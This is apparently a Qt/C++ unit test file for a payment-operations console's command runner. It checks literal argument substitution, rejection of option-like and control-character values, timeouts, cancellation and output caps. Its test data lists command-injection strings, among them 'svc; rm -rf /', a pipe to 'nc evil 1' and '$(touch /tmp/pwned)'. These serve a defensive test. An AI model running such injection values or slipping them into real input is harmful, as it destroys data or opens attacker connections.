#include "models/core/commandrunner.h"

#include <QFile>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QTest>

#include <csignal>
#include <sys/types.h>

using namespace payops;
using namespace std::chrono_literals;

namespace {

// Runs `spec` to the end and returns what finished() reported.
CommandResult runToEnd(const CommandSpec &spec, int waitMs = 20'000)
{
    CommandRunner runner;
    QSignalSpy finished(&runner, &CommandRunner::finished);
    if (!runner.start(spec))
        return {};
    if (!finished.wait(waitMs))
        return {};
    return finished.constFirst().constFirst().value<CommandResult>();
}

// True while `pid` names a live process (a zombie waiting to be reaped counts as ended).
bool processAlive(qint64 pid)
{
    QFile stat(QStringLiteral("/proc/%1/stat").arg(pid));
    if (!stat.open(QIODevice::ReadOnly))
        return false;
    const QByteArray line = stat.readAll();
    const qsizetype close = line.lastIndexOf(')');
    return close > 0 && line.size() > close + 2 && line.at(close + 2) != 'Z';
}

} // namespace

class TestCommandRunner : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void substitutesEachArgumentLiterally_data();
    void substitutesEachArgumentLiterally();
    void refusesValuesThatChangeTheCommand_data();
    void refusesValuesThatChangeTheCommand();
    void refusesUnknownPlaceholders();
    void shellCharactersReachTheProgramAsText();
    void reportsExitStatus();
    void reportsAProgramThatCannotStart();
    void passesEnvironmentAndWorkingDirectory();
    void capsTheOutputAndKeepsReading();
    void timeoutEndsTheWholeProcessGroup();
    void cancelEndsTheCommand();
    void refusesASecondStartWhileRunning();
};

void TestCommandRunner::substitutesEachArgumentLiterally_data()
{
    QTest::addColumn<QString>("value");
    // Shell syntax is not special without a shell: each of these is one literal argument.
    QTest::newRow("semicolon") << QStringLiteral("svc; rm -rf /");
    QTest::newRow("pipe") << QStringLiteral("svc | nc evil 1");
    QTest::newRow("command substitution") << QStringLiteral("$(touch /tmp/pwned)");
    QTest::newRow("backticks") << QStringLiteral("`id`");
    QTest::newRow("quotes") << QStringLiteral("a'b\"c");
    QTest::newRow("glob") << QStringLiteral("*");
    QTest::newRow("spaces") << QStringLiteral("payment gateway");
    QTest::newRow("unicode") << QStringLiteral("支付网关");
}

void TestCommandRunner::substitutesEachArgumentLiterally()
{
    QFETCH(QString, value);
    const auto result = CommandTemplate::substitute({QStringLiteral("--name={service}"), QStringLiteral("{service}"),
                                                     QStringLiteral("{\"json\": 1}")},
                                                    {{QStringLiteral("service"), value}});
    QVERIFY(std::holds_alternative<QStringList>(result));
    QCOMPARE(std::get<QStringList>(result),
             QStringList({QStringLiteral("--name=") + value, value, QStringLiteral("{\"json\": 1}")}));
}

void TestCommandRunner::refusesValuesThatChangeTheCommand_data()
{
    QTest::addColumn<QString>("value");
    QTest::addColumn<QString>("reason");
    QTest::newRow("leading dash") << QStringLiteral("--delete-all") << QStringLiteral("option");
    QTest::newRow("single dash") << QStringLiteral("-rf") << QStringLiteral("option");
    QTest::newRow("newline") << QStringLiteral("svc\nrm -rf /") << QStringLiteral("control character");
    QTest::newRow("carriage return") << QStringLiteral("svc\r") << QStringLiteral("control character");
    QTest::newRow("tab") << QStringLiteral("a\tb") << QStringLiteral("control character");
    QTest::newRow("escape") << QStringLiteral("\x1b[31m") << QStringLiteral("control character");
    QTest::newRow("nul") << QString(QChar(0)) << QStringLiteral("control character");
    QTest::newRow("delete") << QStringLiteral("a\x7f") << QStringLiteral("control character");
    QTest::newRow("empty") << QString() << QStringLiteral("empty");
    QTest::newRow("very long") << QString(CommandTemplate::maxValueLength + 1, u'a') << QStringLiteral("longer");
}

void TestCommandRunner::refusesValuesThatChangeTheCommand()
{
    QFETCH(QString, value);
    QFETCH(QString, reason);
    const auto result = CommandTemplate::substitute({QStringLiteral("restart"), QStringLiteral("{service}")},
                                                    {{QStringLiteral("service"), value}});
    QVERIFY(std::holds_alternative<QString>(result));
    QVERIFY2(std::get<QString>(result).contains(reason), qPrintable(std::get<QString>(result)));
    QVERIFY(std::get<QString>(result).contains(QStringLiteral("{service}")));
}

void TestCommandRunner::refusesUnknownPlaceholders()
{
    const auto result = CommandTemplate::substitute({QStringLiteral("{host}:{port}")}, {{QStringLiteral("host"), QStringLiteral("h")}});
    QVERIFY(std::holds_alternative<QString>(result));
    QVERIFY(std::get<QString>(result).contains(QStringLiteral("{port}")));
    // A value is only checked where it is used.
    const auto used = CommandTemplate::substitute({QStringLiteral("{host}")},
                                                  {{QStringLiteral("host"), QStringLiteral("h")},
                                                   {QStringLiteral("unused"), QStringLiteral("-x")}});
    QCOMPARE(std::get<QStringList>(used), QStringList{QStringLiteral("h")});
}

void TestCommandRunner::shellCharactersReachTheProgramAsText()
{
    QTemporaryDir dir;
    const QString marker = dir.filePath(QStringLiteral("pwned"));
    const QStringList values = {QStringLiteral("$(touch %1)").arg(marker), QStringLiteral("; touch %1").arg(marker),
                                QStringLiteral("`touch %1`").arg(marker), QStringLiteral("| touch %1").arg(marker)};
    CommandSpec spec;
    spec.program = QStringLiteral("printf");
    spec.arguments = QStringList{QStringLiteral("%s\\n")} + values;
    const CommandResult result = runToEnd(spec);
    QVERIFY2(result.succeeded(), qPrintable(result.describe()));
    QCOMPARE(QString::fromUtf8(result.standardOutput), values.join(u'\n') + u'\n');
    QVERIFY(!QFile::exists(marker));
}

void TestCommandRunner::reportsExitStatus()
{
    CommandSpec spec;
    spec.program = QStringLiteral("false");
    const CommandResult result = runToEnd(spec);
    QCOMPARE(result.outcome, CommandResult::Outcome::Exited);
    QCOMPARE(result.exitCode, 1);
    QVERIFY(!result.succeeded());
    QCOMPARE(result.describe(), QStringLiteral("exit status 1"));
}

void TestCommandRunner::reportsAProgramThatCannotStart()
{
    CommandSpec spec;
    spec.program = QStringLiteral("payops-no-such-program");
    const CommandResult result = runToEnd(spec);
    QCOMPARE(result.outcome, CommandResult::Outcome::FailedToStart);
    QVERIFY(!result.error.isEmpty());
    QVERIFY2(result.describe().startsWith(QStringLiteral("could not start")), qPrintable(result.describe()));
}

void TestCommandRunner::passesEnvironmentAndWorkingDirectory()
{
    QTemporaryDir dir;
    CommandSpec spec;
    spec.program = QStringLiteral("sh"); // the program under test here, not a way to run the console's commands
    spec.arguments = {QStringLiteral("-c"), QStringLiteral("pwd; printf '%s\\n' \"$PAYOPS_TEST_VALUE\"")};
    spec.workingDirectory = dir.path();
    spec.environment.insert(QStringLiteral("PAYOPS_TEST_VALUE"), QStringLiteral("from the task"));
    const CommandResult result = runToEnd(spec);
    QVERIFY2(result.succeeded(), qPrintable(result.describe()));
    QCOMPARE(QString::fromUtf8(result.standardOutput), dir.path() + QStringLiteral("\nfrom the task\n"));
}

void TestCommandRunner::capsTheOutputAndKeepsReading()
{
    CommandSpec spec;
    spec.program = QStringLiteral("head");
    spec.arguments = {QStringLiteral("-c"), QStringLiteral("5000000"), QStringLiteral("/dev/zero")};
    spec.outputCap = 64 * 1024;
    CommandRunner runner;
    qsizetype live = 0;
    connect(&runner, &CommandRunner::outputReceived, this,
            [&live](const QByteArray &chunk, QProcess::ProcessChannel) { live += chunk.size(); });
    QSignalSpy finished(&runner, &CommandRunner::finished);
    QVERIFY(runner.start(spec));
    QVERIFY(finished.wait(20'000));
    const auto result = finished.constFirst().constFirst().value<CommandResult>();
    QVERIFY2(result.succeeded(), qPrintable(result.describe())); // it was never blocked on a full pipe
    QCOMPARE(result.standardOutput.size(), spec.outputCap);
    QCOMPARE(live, spec.outputCap);
    QVERIFY(result.outputTruncated);
    QVERIFY(result.describe().contains(QStringLiteral("not kept")));
}

void TestCommandRunner::timeoutEndsTheWholeProcessGroup()
{
    // A program that ignores SIGTERM and starts a child that ignores it too (SIG_IGN is inherited).
    QTemporaryDir dir;
    const QString pids = dir.filePath(QStringLiteral("pids"));
    CommandSpec spec;
    spec.program = QStringLiteral("sh");
    spec.arguments = {QStringLiteral("-c"),
                      QStringLiteral("trap '' TERM; sleep 300 & echo $$ $! > \"$1\"; wait"), QStringLiteral("sh"), pids};
    spec.timeout = 1s;
    spec.killGrace = 300ms;
    QElapsedTimer clock;
    clock.start();
    const CommandResult result = runToEnd(spec);
    QCOMPARE(result.outcome, CommandResult::Outcome::TimedOut);
    QVERIFY(clock.elapsed() < 10'000);
    QVERIFY(result.describe().startsWith(QStringLiteral("timed out after")));

    QFile file(pids);
    QVERIFY(file.open(QIODevice::ReadOnly));
    const QList<QByteArray> ids = file.readAll().simplified().split(' ');
    QCOMPARE(ids.size(), 2);
    for (const QByteArray &id : ids)
        QTRY_VERIFY2_WITH_TIMEOUT(!processAlive(id.toLongLong()), id.constData(), 5000);
}

void TestCommandRunner::cancelEndsTheCommand()
{
    CommandSpec spec;
    spec.program = QStringLiteral("sleep");
    spec.arguments = {QStringLiteral("300")};
    CommandRunner runner;
    QSignalSpy finished(&runner, &CommandRunner::finished);
    QVERIFY(runner.start(spec));
    QTRY_VERIFY(runner.processId() > 0);
    const qint64 pid = runner.processId();
    QTest::qWait(100);
    runner.cancel();
    QVERIFY(finished.wait(10'000));
    const auto result = finished.constFirst().constFirst().value<CommandResult>();
    QCOMPARE(result.outcome, CommandResult::Outcome::Cancelled);
    QVERIFY(!runner.isRunning());
    QTRY_VERIFY(!processAlive(pid));
}

void TestCommandRunner::refusesASecondStartWhileRunning()
{
    CommandSpec spec;
    spec.program = QStringLiteral("sleep");
    spec.arguments = {QStringLiteral("300")};
    CommandRunner runner;
    QVERIFY(runner.start(spec));
    QVERIFY(!runner.start(spec));
    runner.cancel();
    QSignalSpy finished(&runner, &CommandRunner::finished);
    QVERIFY(finished.wait(10'000));
}

QTEST_GUILESS_MAIN(TestCommandRunner)
#include "test_commandrunner.moc"
